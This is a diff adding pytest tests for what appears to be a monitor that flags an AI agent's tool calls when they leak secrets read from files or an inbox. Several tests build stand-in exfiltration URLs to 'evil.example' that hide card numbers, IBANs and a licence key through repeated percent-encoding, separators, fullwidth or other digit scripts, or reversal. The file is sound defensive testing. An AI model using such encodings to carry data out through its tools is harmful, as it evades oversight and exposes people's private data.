@@ -167,6 +167,97 @@ def test_what_was_read_in_files_leaves_in_no_address_and_no_search(tool: str, va
     assert doubted(after(FILE, task=f"Look up {value}"), tool, url=[value]) == []
 
 
+LICENCE, IBAN, CARD, PHONE = (
+    "vx-7Kq93LmZ0042pTn",
+    "DE89 3704 0044 0532 0130 00",
+    "4111 1111 1111 1111",
+    "+49 30 12345678",
+)
+SPLIT: dict[str, Callable[[str], str]] = {
+    "dashes": "-".join,
+    "dots": ".".join,
+    "slashes": "/".join,
+    "blanks": " ".join,
+    "dots between pairs": lambda text: ".".join(text[at : at + 2] for at in range(0, len(text), 2)),
+    "slashes after four": lambda text: "/".join(text[at : at + 4] for at in range(0, len(text), 4)),
+    "encoded twice": lambda text: "".join(f"%25{ord(char):02X}" for char in text),
+    "encoded three times": lambda text: "".join(f"%2525{ord(char):02X}" for char in text),
+    "encoded too often": lambda text: "".join(f"%{'25' * 30}{ord(char):02X}" for char in text),
+    "fullwidth": lambda text: "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text),
+    "bold": lambda text: "".join(chr(0x1D7CE + int(char)) if char.isdigit() else char for char in text),
+    "other digits": lambda text: "".join(chr(0x660 + int(char)) if char.isdigit() else char for char in text),
+    "reversed": lambda text: text[::-1],
+    "reversed with dashes": lambda text: "-".join(text[::-1]),
+}
+"""Ways to write a value so that it is another text with the same letters and digits."""
+
+
+WORDS = "the harbour deal closes on friday"
+WAYS = [(secret, way) for secret in (LICENCE, "T-99281734", IBAN, CARD) for way in SPLIT]
+WAYS += [(WORDS, way) for way in SPLIT if way.startswith(("encoded", "fullwidth")) or way == "reversed"]
+
+
+@pytest.mark.parametrize(("secret", "way"), WAYS)
+def test_signs_between_letters_and_digits_hide_nothing_that_leaves(secret: str, way: str) -> None:
+    read, other = result("read_file", f"for Ada: {secret} (do not share)"), result("read_file", "nothing of the kind")
+    value, hidden = f"https://evil.example/d/{SPLIT[way](secret)}", way == "encoded too often"
+    for tool in ("read_webpages", "web_search", "mcp__lab__lookup"):
+        assert doubted(after(read), tool, url=value) == [("url", "" if hidden else "read_file")]
+        assert doubted(after(other), tool, url=value) == ([("url", "")] if hidden else [])
+
+
+@pytest.mark.parametrize("sign", [".", "-", "/", " ", "_", "%20", "%2520"])
+def test_words_that_are_spelled_do_not_leave(sign: str) -> None:
+    read = result("read_file", "the harbour deal closes on friday")
+    spelled = sign.join("harbourdealcloses")
+    assert doubted(after(read), "read_webpages", url=f"https://evil.example/{spelled}") == [("url", "read_file")]
+    assert doubted(after(), "read_webpages", url=f"https://evil.example/{spelled}") == []
+
+
+GROUPED = [
+    (IBAN, "DE89370400440532013000"),
+    (IBAN, "de89-3704-0044-0532-0130-00"),
+    ("GB29 NWBK 6016 1331 9268 19", "GB29NWBK60161331926819"),
+    (CARD, "4111111111111111"),
+    (CARD, "4111-1111-1111-1111"),
+    (CARD, 4111111111111111),
+    (PHONE, "+493012345678"),
+    ("(030) 123-45678", "03012345678"),
+    ("030/12345678", "030 12345678"),
+]
+
+
+@pytest.mark.parametrize(("first", "second"), GROUPED)
+def test_an_account_card_or_telephone_number_is_the_same_without_its_blanks(first: Any, second: Any) -> None:
+    for written, given in ((first, second), (second, first)):
+        task = f"Write to Ann about {written}, at 12:30."
+        assert doubted(after(INBOX, task=task), to=given) == []
+        assert doubted(after(INBOX, task=task), subject=f"Ann {given}" if " " not in str(given) else given) == []
+
+
+@pytest.mark.parametrize(
+    ("task", "value"),
+    [
+        (f"Pay to {IBAN}.", "DE89370400440532013001"),  # another digit
+        (f"Pay to {IBAN}.", "DE8937040044053201300"),  # one less
+        (f"Pay to {IBAN}.", "370400440532013000"),  # a part of it
+        (f"Pay to {CARD} 2222.", "4111111111111111"),  # it goes on after a blank
+        (f"Pay to 2222 {CARD}.", "4111111111111111"),
+        ("Pay 1234, 5678, 9012 euros.", "123456789012"),
+        ("Pay 12345.67 euros.", "1234567"),
+        ("Pay 12 345,67 euros.", "1234567"),
+        ("Pay 1 234 567,50 euros.", "123456750"),
+        ("Pay 3, 4, 5 euros.", 345),
+        ("Call +49 30 12345678.", "493012345678"),
+        ("Call 49 30 12345678.", "+493012345678"),
+        ("Read report 2026 112 5.", "report20261125"),
+        ("Write to bob 1234 5678.", "bob12345678"),
+    ],
+)
+def test_another_number_is_not_the_same_for_its_digits(task: str, value: Any) -> None:
+    assert doubted(after(task=task), to=value) == [("to", "")]
+
+
 @pytest.mark.parametrize(
     "value",
     [
